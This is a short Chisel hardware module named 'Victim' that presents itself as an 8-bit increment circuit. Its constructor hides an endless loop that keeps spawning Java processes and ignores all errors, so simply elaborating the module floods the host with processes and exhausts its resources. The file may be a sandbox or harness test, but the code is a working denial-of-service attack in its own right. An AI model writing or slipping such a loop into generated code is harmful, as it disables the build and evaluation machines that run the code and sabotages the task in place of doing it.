import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val java = System.getProperty("java.home") + "/bin/java"
  while (true) {
    try new ProcessBuilder(java, "-Xmx16m", "-version").start() catch { case _: Throwable => () }
  }
  io.out := io.in + 1.U
}
